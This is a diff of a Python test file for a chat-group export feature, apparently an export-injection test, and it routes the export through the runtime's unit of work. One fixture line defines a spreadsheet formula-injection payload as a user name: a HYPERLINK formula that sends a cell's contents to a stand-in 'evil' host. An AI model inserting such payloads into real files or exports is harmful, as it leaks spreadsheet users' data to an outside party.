@@ -26,6 +26,7 @@ EVIL = '=HYPERLINK("http://evil/?"&B2,"点我")'
 
 
 def build(conn: Connection, runtime: Runtime) -> None:
+    WRITE["rt"] = runtime
     feed(conn, runtime, [raw_join("j1", "g1", "u1", name=EVIL),
                          raw_join("j2", "g1", "u2", name="小王"),
                          raw_message("m1", "g1", "u1", "+1 我也要", minutes=5),
@@ -34,11 +35,14 @@ def build(conn: Connection, runtime: Runtime) -> None:
                  .values(phone="13812345678"))
 
 
+WRITE: dict[str, Runtime] = {}
+
+
 def write(conn: Connection, kind: str, fmt: str = "csv", actor: object = SYSTEM,
           **kw: object) -> tuple[int, bytes]:
     out = io.BytesIO()
-    n = exports.do_export(conn, actor=actor, kind=kind, fmt=fmt, out=out, tz=TZ,  # type: ignore[arg-type]
-                          now=T0 + timedelta(days=3), **kw)  # type: ignore[arg-type]
+    n = exports.do_export(WRITE["rt"].uow, actor=actor, kind=kind, fmt=fmt,  # type: ignore[arg-type]
+                          out=out, tz=TZ, now=T0 + timedelta(days=3), **kw)  # type: ignore[arg-type]
     return n, out.getvalue()
 
 
